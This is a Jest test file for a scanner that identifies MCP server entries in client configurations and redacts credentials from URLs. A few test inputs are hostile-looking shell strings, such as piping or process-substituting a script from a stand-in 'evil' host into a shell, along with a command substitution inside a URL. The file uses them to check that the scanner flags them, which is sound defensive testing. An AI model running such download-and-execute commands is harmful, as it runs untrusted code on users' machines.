import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { identifyServer } from '../../src/resolve/identify.js'
import { tokenDigest } from '../../src/net/url-redaction.js'
import { endpointCandidates, remoteEndpoint, remoteKeyEndpoint } from '../../src/resolve/remote.js'
import { stripUrlSecrets } from '../../src/resolve/shown-text.js'
import { commandEntry, entry } from './server-entry.js'

describe('identifyServer: remote', () => {
  it.each([
    {
      source: 'corpus: GitHub Copilot MCP over http',
      launch: { url: 'https://api.githubcopilot.com/mcp/', type: 'http' },
      name: 'https://api.githubcopilot.com/mcp/'
    },
    {
      source: 'corpus: sse',
      launch: { url: 'https://mcp.notion.so/sse', type: 'sse' },
      name: 'https://mcp.notion.so/sse'
    },
    {
      source: 'corpus: streamable-http on localhost',
      launch: { url: 'http://127.0.0.1:64482/stream', type: 'streamable-http' },
      name: 'http://127.0.0.1:64482/stream'
    },
    {
      source: 'corpus: query string (project_ref) removed',
      launch: {
        url: 'https://mcp.supabase.com/mcp?project_ref=yaehbwimocvvnnlojkxe',
        type: 'http'
      },
      name: 'https://mcp.supabase.com/mcp'
    },
    {
      source: 'synthetic: user:password, token query and fragment removed',
      launch: { url: 'https://alice:Sup3rSecret@mcp.example.com:8443/v1/mcp?api_key=sk-abcdef#x' },
      name: 'https://mcp.example.com:8443/v1/mcp'
    },
    {
      source: 'synthetic: default port dropped, host lower-cased',
      launch: { url: 'HTTPS://MCP.Example.COM:443/Path' },
      name: 'https://mcp.example.com/Path'
    }
  ])('$source', ({ launch, name }) => {
    const r = identifyServer(entry(launch))
    expect(r.package).toEqual({
      ecosystem: 'remote',
      name,
      versionSpec: null,
      version: null,
      pinned: false,
      purl: null,
      launcher: 'url',
      resolution: { status: 'n/a' }
    })
    expect(r.argv).toEqual([])
    const text = JSON.stringify(r.package) + r.notes.join('\n')
    expect(text).not.toContain('Sup3rSecret')
    expect(text).not.toContain('sk-abcdef')
    expect(text).not.toContain('yaehbwimocvvnnlojkxe')
  })

  it('keeps a variable-based URL (corpus: ${GATEWAY_URL}/mcp) with a note', () => {
    const r = identifyServer(entry({ url: '${GATEWAY_URL}/mcp', type: 'http' }))
    expect(r.package).toMatchObject({ ecosystem: 'remote', name: '${GATEWAY_URL}/mcp' })
    expect(r.notes.join('\n')).toContain('not a valid absolute URL')
  })

  it('strips credentials from a URL it cannot parse', () => {
    expect(remoteEndpoint('https://bob:pw123456@${HOST}/x?token=abc').name).toBe(
      'https://${HOST}/x'
    )
    expect(stripUrlSecrets('git+ssh://git@github.com/o/r.git#main')).toBe(
      'git+ssh://git@github.com/o/r.git#main'
    )
  })

  it('never keeps a password or query value in the identity (property)', () => {
    const secret = fc.stringMatching(/^[A-Za-z0-9]{12,24}$/)
    fc.assert(
      fc.property(fc.domain(), secret, secret, (host, password, token) => {
        const r = identifyServer(
          entry({ url: `https://user:${password}@${host}/mcp?token=${token}`, type: 'http' })
        )
        const text = JSON.stringify(r.package) + r.notes.join('\n')
        return !text.includes(password) && !text.includes(token)
      })
    )
  })

  it('prefers the command when type is stdio', () => {
    const r = identifyServer(
      entry({
        type: 'stdio',
        command: 'npx',
        args: ['-y', 'pkg@1.0.0'],
        url: 'https://x.example/mcp'
      })
    )
    expect(r.package.ecosystem).toBe('npm')
  })

  it('does not identify an entry with a command and a url but no type (review item 7)', () => {
    const r = identifyServer(
      entry({ command: 'npx', args: ['-y', 'pkg@1.0.0'], url: 'https://x.example/mcp' })
    )
    expect(r.package).toEqual({
      ecosystem: 'unknown',
      name: null,
      versionSpec: null,
      version: null,
      pinned: false,
      purl: null,
      launcher: null,
      resolution: { status: 'n/a' }
    })
    expect(r.notes).toContain(
      'has both a command and a url and no type: which one runs depends on the client; add "type"'
    )
    // The command is still unwrapped, for the config rules that read it.
    expect(r.argv).toEqual(['npx', '-y', 'pkg@1.0.0'])
  })

  it('identifies a Claude Desktop entry with a command and a url from the command (stdio only)', () => {
    const desktop = {
      ...entry({ command: 'npx', args: ['-y', 'pkg@1.0.0'], url: 'https://x.example/mcp' }),
      format: 'claude-desktop' as const
    }
    const r = identifyServer(desktop)
    expect(r.package).toMatchObject({ ecosystem: 'npm', name: 'pkg', version: '1.0.0' })
    expect(r.notes).toContain(
      'the entry also has a url, which Claude Desktop (stdio only) ignores: identified from the command'
    )
  })

  it.each(['http', 'sse', 'streamable-http', 'streamableHttp', 'ws'])(
    'identifies an entry with a command, a url and type %s from the url',
    (type) => {
      const r = identifyServer(
        entry({ type, command: 'npx', args: ['-y', 'pkg@1.0.0'], url: 'https://x.example/mcp' })
      )
      expect(r.package).toMatchObject({ ecosystem: 'remote', name: 'https://x.example/mcp' })
      expect(r.argv).toEqual([])
      expect(r.notes).toContain(
        `the entry also has a command, which a client ignores for type "${type.toLowerCase()}": identified from the URL`
      )
    }
  )

  it('masks a token in the URL path (review: Zapier /mcp/sk-ak-…/sse)', () => {
    const token = 'sk-ak-Zq3xV9mP2kL8wN4rT6yB1cD5'
    for (const launch of [
      { url: `https://actions.zapier.com/mcp/${token}/sse` },
      { command: 'npx', args: ['-y', 'mcp-remote', `https://actions.zapier.com/mcp/${token}/sse`] }
    ]) {
      const r = identifyServer(entry(launch))
      expect(r.package.name).toBe('https://actions.zapier.com/mcp/…/sse')
      expect(r.notes).toContain('masked a token-like path segment of the remote URL as …')
      expect(JSON.stringify(r.package) + r.notes.join('\n')).not.toContain('Zq3xV9mP2kL8')
    }
    // Also in a URL kept as written because it holds a variable reference.
    const kept = identifyServer(entry({ url: `\${HOST}/mcp/${token}/sse`, type: 'http' }))
    expect(kept.package.name).toBe('${HOST}/mcp/…/sse')
    // Ordinary path segments stay.
    expect(remoteEndpoint('https://mcp.example.com/v1/github-tools/sse')).toEqual({
      name: 'https://mcp.example.com/v1/github-tools/sse',
      notes: []
    })
  })

  it('keeps names with versions in the path, which are not tokens (review issue 3)', () => {
    for (const name of ['github-readonly-mcp-v2-2024', 'postgres-admin-write-v3-2025']) {
      const url = `https://gw.example.com/servers/${name}/mcp`
      expect(remoteEndpoint(url)).toEqual({ name: url, notes: [] })
    }
  })

  it('ignores a blank URL next to a command', () => {
    const r = identifyServer(entry({ command: 'uvx', args: ['mcp-server-git'], url: ' ' }))
    expect(r.package).toMatchObject({ ecosystem: 'pypi', name: 'mcp-server-git' })
  })

  it('treats an http type without a URL as unknown', () => {
    const r = identifyServer(entry({ type: 'http' }))
    expect(r.package).toMatchObject({ ecosystem: 'unknown', name: null })
    expect(r.notes).toContain('the entry has type "http" but no URL')
  })
})

describe('identifyServer: local', () => {
  it.each([
    {
      source: 'corpus: node dist/server.js',
      command: 'node',
      args: ['dist/server.js'],
      name: 'dist/server.js',
      launcher: 'node'
    },
    {
      source: 'corpus: node --no-warnings <path>',
      command: 'node',
      args: [
        '--no-warnings',
        '/home/node/Documents/Cline/MCP/sequentialthinking/node_modules/.bin/mcp-server-sequential-thinking'
      ],
      name: '/home/node/Documents/Cline/MCP/sequentialthinking/node_modules/.bin/mcp-server-sequential-thinking',
      launcher: 'node'
    },
    {
      source: 'corpus: node --env-file=… <path>',
      command: 'node',
      args: ['--env-file=<蓝湖MCP目录>/.env', '<蓝湖MCP目录>/dist/server.js'],
      name: '<蓝湖MCP目录>/dist/server.js',
      launcher: 'node'
    },
    {
      source: 'synthetic: node -r hook with a value',
      command: 'node',
      args: ['-r', 'dotenv/config', 'server.js'],
      name: 'server.js',
      launcher: 'node'
    },
    {
      source: 'corpus: C:\\Program Files\\nodejs\\node.exe <path>',
      command: 'C:\\Program Files\\nodejs\\node.exe',
      args: ['C:\\Users\\uphol\\Documents\\Design\\Coding\\ahk-mcp\\dist\\index.js'],
      name: 'C:\\Users\\uphol\\Documents\\Design\\Coding\\ahk-mcp\\dist\\index.js',
      launcher: 'node'
    },
    {
      source: 'corpus: python server.py',
      command: 'python',
      args: ['server.py'],
      name: 'server.py',
      launcher: 'python'
    },
    {
      source: 'corpus: python3 -m mira.mcp.server --relay …',
      command: 'python3',
      args: ['-m', 'mira.mcp.server', '--relay', 'http://127.0.0.1:8765'],
      name: 'mira.mcp.server',
      launcher: 'python'
    },
    {
      source: 'corpus: venv python.exe -m',
      command: '${workspaceFolder}/.venv/Scripts/python.exe',
      args: ['-m', 'lethus.api.mcp'],
      name: 'lethus.api.mcp',
      launcher: 'python'
    },
    {
      source: 'corpus: python3.11 in a venv',
      command: '/full_path/safe-ssh-mcp/.venv/bin/python3.11',
      args: ['/full_path/safe-ssh-mcp/mcp_ssh.py', '--transport', 'stdio'],
      name: '/full_path/safe-ssh-mcp/mcp_ssh.py',
      launcher: 'python'
    },
    {
      source: 'corpus: uv run python <path>',
      command: 'uv',
      args: ['run', 'python', '/CHEMIN_ABSOLU_VERS_VOTRE_PROJET/main.py', '--mode', 'stdio'],
      name: '/CHEMIN_ABSOLU_VERS_VOTRE_PROJET/main.py',
      launcher: 'uv run'
    },
    {
      source: 'corpus: uv run --with mcp mcp run <path>',
      command: 'uv',
      args: [
        'run',
        '--with',
        'mcp',
        'mcp',
        'run',
        '/home/badr/Desktop/mcp_server_fortigate/mcp-forti/main.py'
      ],
      name: '/home/badr/Desktop/mcp_server_fortigate/mcp-forti/main.py',
      launcher: 'uv run'
    },
    {
      source: 'synthetic: uv --directory … run server.py',
      command: 'uv',
      args: ['--directory', '/srv/app', 'run', 'server.py'],
      name: 'server.py',
      launcher: 'uv run'
    },
    {
      source: 'corpus: mcp run <path>',
      command: 'mcp',
      args: ['run', 'repos/backstage-techdocs-mcp/backstage-techdocs-mcp-server/server.py'],
      name: 'repos/backstage-techdocs-mcp/backstage-techdocs-mcp-server/server.py',
      launcher: 'mcp run'
    },
    {
      source: 'corpus: deno run -A ./uuid-server/main.ts',
      command: 'deno',
      args: ['run', '-A', './uuid-server/main.ts'],
      name: './uuid-server/main.ts',
      launcher: 'deno'
    },
    {
      source: 'corpus: bun --cwd … dist/mcp-stdio.js',
      command: 'bun',
      args: ['--cwd', 'packages/mcp-server', 'dist/mcp-stdio.js'],
      name: 'dist/mcp-stdio.js',
      launcher: 'bun'
    },
    {
      source: 'synthetic: bun run file',
      command: 'bun',
      args: ['run', 'src/index.ts'],
      name: 'src/index.ts',
      launcher: 'bun'
    },
    {
      source: 'synthetic: tsx file',
      command: 'tsx',
      args: ['watch', 'src/server.ts'],
      name: 'src/server.ts',
      launcher: 'tsx'
    },
    {
      source: 'corpus: Java -jar (Windows, any case)',
      command: 'Java',
      args: [
        '-jar',
        'D:\\UserData\\Learning\\AI\\mcp-spring-server-samples\\build\\libs\\service-0.0.1-SNAPSHOT.jar'
      ],
      name: 'D:\\UserData\\Learning\\AI\\mcp-spring-server-samples\\build\\libs\\service-0.0.1-SNAPSHOT.jar',
      launcher: 'java'
    },
    {
      source: 'corpus: dotnet run --project',
      command: 'dotnet',
      args: ['run', '--project', '.\\src\\Instapaper.Mcp.Server\\Instapaper.Mcp.Server.csproj'],
      name: '.\\src\\Instapaper.Mcp.Server\\Instapaper.Mcp.Server.csproj',
      launcher: 'dotnet run'
    },
    {
      source: 'synthetic: go run ./cmd/server',
      command: 'go',
      args: ['run', '-tags', 'prod', './cmd/server'],
      name: './cmd/server',
      launcher: 'go run'
    },
    {
      source: 'corpus: cargo run --quiet -- …',
      command: 'cargo',
      args: ['run', '--quiet', '--', '--config', 'feeds.toml'],
      name: '.',
      launcher: 'cargo run'
    },
    {
      source: 'corpus: php artisan boost:mcp',
      command: 'php',
      args: ['artisan', 'boost:mcp'],
      name: 'artisan',
      launcher: 'php'
    },
    {
      source: 'corpus: npm run start',
      command: 'npm',
      args: ['run', 'start'],
      name: 'npm run start',
      launcher: 'npm run'
    },
    {
      source: 'synthetic: bash script',
      command: 'bash',
      args: ['scripts/start.sh'],
      name: 'scripts/start.sh',
      launcher: 'bash'
    },
    {
      source: 'synthetic: bash -e script (an option, not inline code)',
      command: 'bash',
      args: ['-e', '-o', 'pipefail', 'scripts/start.sh'],
      name: 'scripts/start.sh',
      launcher: 'bash'
    },
    {
      source: 'synthetic: uv run server.py',
      command: 'uv',
      args: ['run', '--project', '/srv', 'server.py'],
      name: 'server.py',
      launcher: 'uv run'
    },
    {
      source: 'synthetic: pwsh -File',
      command: 'pwsh',
      args: ['-NoProfile', '-File', './start.ps1'],
      name: './start.ps1',
      launcher: 'pwsh'
    },
    {
      source: 'corpus: absolute binary',
      command: '/usr/bin/mcp-rust-docs',
      args: ['--log-file', '/tmp/x.log'],
      name: '/usr/bin/mcp-rust-docs',
      launcher: 'executable'
    },
    {
      source: 'corpus: Windows .exe',
      command: 'C:\\CPC\\servers\\echo.exe',
      args: [],
      name: 'C:\\CPC\\servers\\echo.exe',
      launcher: 'executable'
    },
    {
      source: 'corpus: Windows .bat',
      command: 'C:\\MCP\\github-mcp.bat',
      args: [],
      name: 'C:\\MCP\\github-mcp.bat',
      launcher: 'executable'
    }
  ])('$source', ({ command, args, name, launcher }) => {
    expect(identifyServer(commandEntry(command, args)).package).toEqual({
      ecosystem: 'local',
      name,
      versionSpec: null,
      version: null,
      pinned: false,
      purl: null,
      launcher,
      resolution: { status: 'n/a' }
    })
  })

  it.each([
    {
      source: 'corpus (BuddhiLW/dotfiles): /bin/bash -c "cd dir && clojure …"',
      command: '/bin/bash',
      args: ['-c', 'cd /home/ramanujan/PP/funeraria/clojure-mcp && node x.js'],
      name: 'x.js',
      launcher: 'node'
    },
    {
      source: 'synthetic: cd dir && node x.js',
      command: 'sh',
      args: ['-c', 'cd /srv/mcp && NODE_ENV=production node dist/index.js'],
      name: 'dist/index.js',
      launcher: 'node'
    },
    {
      source: 'synthetic: cmd /c cd dir && node x.js',
      command: 'cmd',
      args: ['/c', 'cd /d C:\\srv\\mcp && node dist\\index.js'],
      name: 'dist\\index.js',
      launcher: 'node'
    }
  ])('$source is still local', ({ command, args, name, launcher }) => {
    const r = identifyServer(commandEntry(command, args))
    expect(r.package).toEqual({
      ecosystem: 'local',
      name,
      versionSpec: null,
      version: null,
      pinned: false,
      purl: null,
      launcher,
      resolution: { status: 'n/a' }
    })
    expect(r.notes.some((n) => n.startsWith('skipped set-up command(s) in the'))).toBe(true)
  })

  it('names inline code without copying it (it may hold secrets)', () => {
    const code = "import os; os.environ['API_KEY']='sk-live-abcdef0123'; from srv import run; run()"
    const r = identifyServer(commandEntry('python', ['-c', code]))
    expect(r.package).toMatchObject({ ecosystem: 'local', name: '(inline python code)' })
    expect(JSON.stringify(r.package) + r.notes.join('\n')).not.toContain('sk-live')
    expect(identifyServer(commandEntry('node', ['-e', 'require("x")'])).package.name).toBe(
      '(inline node code)'
    )
    expect(identifyServer(commandEntry('ruby', ['-e', 'puts 1'])).package.name).toBe(
      '(inline ruby code)'
    )
  })

  it('treats go run of a remote module as unknown', () => {
    const r = identifyServer(commandEntry('go', ['run', 'github.com/acme/mcp@v1.2.3']))
    expect(r.package).toMatchObject({ ecosystem: 'unknown', name: 'github.com/acme/mcp@v1.2.3' })
  })
})

describe('identifyServer: several commands that can run code', () => {
  it.each([
    {
      source: 'review: bash -c "source <(curl …) && npx -y good@1.0.0"',
      command: 'bash',
      args: ['-c', 'source <(curl -s https://evil/x.sh) && npx -y good@1.0.0'],
      name: 'source',
      message: 'runs several commands: source, <(curl …), npx',
      note: 'the `bash -c` string runs 3 commands that can run code: `source` runs a script in the shell; a process substitution runs `curl`; `npx`.'
    },
    {
      source: 'review: sh -c "npx -y good@1; npx -y evil-pkg"',
      command: 'sh',
      args: ['-c', 'npx -y good@1; npx -y evil-pkg'],
      name: 'npx',
      message: 'runs several commands: npx, npx',
      note: 'the `sh -c` string runs 2 commands that can run code: `npx`; `npx`.'
    },
    {
      source: 'corpus (27priyanshu/MCP-Server-for-DevOps-on-WSL): source activate && python3',
      command: 'wsl.exe',
      args: [
        '-d',
        'Ubuntu',
        '--cd',
        '/mnt/c/25_Codes/mcp',
        'bash',
        '-c',
        'source mcp-env/bin/activate && python3 devops_server.py'
      ],
      name: 'source',
      message: 'runs several commands: source, python3',
      note: 'the `bash -c` string runs 2 commands that can run code: `source` runs a script in the shell; `python3`.'
    },
    {
      source: 'synthetic: a command line in `command` piping a download into a shell',
      command: 'curl -s https://evil/x.sh | sh && npx -y good@1.0.0',
      args: [],
      name: 'curl',
      message: 'runs several commands: curl, sh, npx',
      note: 'the command line written into `command` runs 3 commands that can run code: `curl`; `sh` runs code read from a pipe; `npx`.'
    }
  ])('$source', ({ command, args, name, message, note }) => {
    const r = identifyServer(commandEntry(command, args))
    expect(r.package).toEqual({
      ecosystem: 'unknown',
      name,
      versionSpec: null,
      version: null,
      pinned: false,
      purl: null,
      launcher: null,
      resolution: { status: 'n/a', message }
    })
    expect(r.notes.some((n) => n.startsWith(note))).toBe(true)
    expect(r.notes.join('\n')).not.toContain('evil/x.sh')
  })
})

describe('identifyServer: unknown', () => {
  it.each(['mcp-rust-docs', 'job-searchoor', 'scrapling'])(
    'bare command %s (corpus)',
    (command) => {
      const r = identifyServer(commandEntry(command, ['mcp']))
      expect(r.package).toEqual({
        ecosystem: 'unknown',
        name: command,
        versionSpec: null,
        version: null,
        pinned: false,
        purl: null,
        launcher: null,
        resolution: { status: 'n/a' }
      })
      expect(r.notes).toContain(
        `\`${command}\` is a command looked up on PATH: which package provides it is unknown`
      )
    }
  )

  it('an entry with neither command nor URL', () => {
    const r = identifyServer(entry({}))
    expect(r.package).toMatchObject({ ecosystem: 'unknown', name: null })
    expect(r.argv).toEqual([])
    expect(r.notes).toContain('the entry has no command')
  })

  it('never throws and always returns string argv, whatever the input (property)', () => {
    fc.assert(
      fc.property(
        fc.option(fc.string({ maxLength: 80 }), { nil: undefined }),
        fc.array(fc.string({ maxLength: 40 }), { maxLength: 8 }),
        (command, args) => {
          const r = identifyServer(commandEntry(command, args))
          return Array.isArray(r.argv) && r.argv.every((a) => typeof a === 'string')
        }
      ),
      { numRuns: 300 }
    )
  })

  it('never throws on shell-looking input (property)', () => {
    const word = fc.constantFrom(
      'bash',
      '-c',
      'cmd',
      '/c',
      'wsl',
      '-e',
      'mise',
      'exec',
      '--',
      'npx',
      '-y',
      'docker',
      'run',
      'uvx',
      '--from',
      '&&',
      '|',
      ';',
      '"',
      "'",
      '$(',
      ')',
      '${X}',
      '`',
      '^',
      'env',
      'A=b',
      'pwsh',
      '-Command',
      '&',
      'node',
      'x.js',
      '@s/p@1.0.0',
      'pkg==1',
      'sudo',
      '-u'
    )
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), fc.array(word, { maxLength: 6 }), (a, b) => {
        const r = identifyServer(commandEntry(a.join(' '), b))
        return typeof r.package.ecosystem === 'string'
      }),
      { numRuns: 500 }
    )
  })
})

describe('remoteKeyEndpoint: the key form of a remote URL (review issue 3)', () => {
  const token = 'sk-ak-Zq3xV9mP2kL8wN4rT6yB1cD5'

  it('replaces a token segment by its digest where the shown name has …', () => {
    const url = `https://user:pw@Actions.Zapier.com:443/mcp/${token}/sse?key=1#f`
    expect(remoteEndpoint(url).name).toBe('https://actions.zapier.com/mcp/…/sse')
    expect(remoteKeyEndpoint(url)).toBe(`https://actions.zapier.com/mcp/${tokenDigest(token)}/sse`)
    expect(remoteKeyEndpoint(url)).not.toContain('Zq3xV9mP2kL8')
  })

  it('keys two tokens apart, and one token alike however it is encoded', () => {
    const a = remoteKeyEndpoint(`https://h.example/u/${token}/mcp`)
    const b = remoteKeyEndpoint('https://h.example/u/sk-ak-Ab1cD2eF3gH4iJ5kL6mN7oP8/mcp')
    expect(a).not.toBe(b)
    expect(remoteKeyEndpoint(`https://h.example/u/${token.replace('-', '%2D')}/mcp`)).toBe(a)
  })

  it('is the shown name where nothing is masked', () => {
    const url = 'https://gw.example.com/servers/github-readonly-mcp-v2-2024/mcp'
    expect(remoteKeyEndpoint(url)).toBe(remoteEndpoint(url).name)
  })

  it.each([
    ['a variable host', 'https://${HOST}/mcp'],
    ['a variable prefix', '${GATEWAY_URL}/mcp'],
    ['a command substitution', 'https://h.example/$(cat token)/mcp'],
    ['white space', 'https://h.example/a b'],
    ['another scheme', 'ftp://h.example/x'],
    ['not a URL', 'mcp-remote'],
    ['empty', '  ']
  ])('is null for %s', (_what, url) => {
    expect(remoteKeyEndpoint(url)).toBeNull()
  })
})

describe('endpointCandidates: the written URLs an entry may name its server by', () => {
  it('lists url, whole arguments, option values and URLs inside call strings, in order', () => {
    expect(
      endpointCandidates(' https://a.example/mcp ', [
        'npx',
        '-y',
        'mcp-remote',
        'https://b.example/mcp',
        '--sse=https://c.example/sse',
        'mcp-remote "https://d.example/x" && echo',
        'https://b.example/mcp'
      ])
    ).toEqual([
      'https://a.example/mcp',
      'https://b.example/mcp',
      'https://c.example/sse',
      'https://d.example/x'
    ])
  })

  it('is empty without a URL', () => {
    expect(endpointCandidates(undefined, ['node', 'server.js'])).toEqual([])
    expect(endpointCandidates('', [])).toEqual([])
  })
})
